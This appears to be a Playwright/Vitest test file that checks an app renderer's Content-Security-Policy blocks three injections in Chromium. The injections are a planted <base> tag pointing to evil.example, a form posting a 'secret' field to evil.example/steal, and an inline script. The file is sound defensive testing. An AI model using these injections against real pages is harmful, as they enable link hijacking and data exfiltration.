/**
 * The built renderer's Content-Security-Policy holds in a real browser, as the manager window
 * loads it (a file:// page): a `<base>` planted in the page does not move its links elsewhere
 * (base-uri 'none'), a form cannot post anywhere (form-action 'none'), and an inline script does
 * not run (script-src 'self'). Chromium reports each as a policy violation.
 * (test/reliability/renderer-hardening.test.ts reads the policy's text; this proves it is in force.)
 */
import { pathToFileURL } from 'node:url';
import path from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ROOT } from '../harness/mcp-bin.ts';
import { launchChromium, type BrowserSession } from './chromium.ts';

const index = pathToFileURL(path.join(ROOT, 'dist/renderer/index.html')).href;
let browser: BrowserSession;
let page: Page;

declare global {
  interface Window {
    violations: string[];
    inlineRan?: boolean;
  }
}

beforeAll(async () => {
  browser = await launchChromium();
  page = await browser.newPage();
  await page.addInitScript(() => {
    window.violations = [];
    document.addEventListener('securitypolicyviolation', (event) =>
      window.violations.push(event.effectiveDirective),
    );
  });
  await page.goto(index);
});

afterAll(async () => {
  await browser?.close();
});

const violated = (directive: string) =>
  page.waitForFunction((d) => window.violations.includes(d), directive, { polling: 50 });

describe("the renderer's CSP in Chromium", () => {
  it("a planted <base> is refused: the page's links keep resolving against the app", async () => {
    const resolved = await page.evaluate(() => {
      const base = document.createElement('base');
      base.href = 'https://evil.example/';
      document.head.prepend(base);
      const link = document.createElement('a');
      link.href = 'graphs';
      return { baseURI: document.baseURI, link: link.href };
    });
    await violated('base-uri');
    expect(resolved.baseURI).toBe(index);
    expect(resolved.link.startsWith('file://')).toBe(true);
  });

  it('a form cannot be submitted anywhere', async () => {
    await page.evaluate(() => {
      const form = document.createElement('form');
      form.action = 'https://evil.example/steal';
      form.method = 'post';
      const field = document.createElement('input');
      field.name = 'secret';
      field.value = 'x';
      form.append(field);
      document.body.append(form);
      form.submit();
    });
    await violated('form-action');
    expect(page.url()).toBe(index);
  });

  it('an inline script does not run', async () => {
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.inlineRan = true;';
      document.body.append(script);
    });
    await violated('script-src-elem');
    expect(await page.evaluate(() => window.inlineRan ?? false)).toBe(false);
  });
});
